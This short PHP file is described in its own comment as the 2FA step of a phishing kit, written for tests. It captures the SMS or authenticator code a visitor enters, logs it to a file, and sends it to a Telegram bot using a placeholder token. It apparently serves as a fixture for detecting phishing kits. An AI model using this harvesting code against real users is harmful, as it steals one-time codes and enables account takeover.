<?php
// the code step of a kit: the SMS code or the authenticator's code the visitor typed, logged
// and posted to the operator's chat bot, labelled as such and with no address (written for
// the tests, never run)
$code = $_POST['code'] ?? '';
$sms = $_POST['sms'] ?? '';
$bot = "000000:TESTTOKEN";
if ($code) {
    $msg = urlencode("2FA CODE RECEIVED\nCode: $code");
} else {
    $msg = urlencode("SMS CODE RECEIVED\nCode: $sms");
}
file_put_contents('logs/codes.txt', date('c') . " | $code $sms\n", FILE_APPEND);
file_get_contents("https://api.telegram.org/bot$bot/sendMessage?chat_id=1&text=$msg");
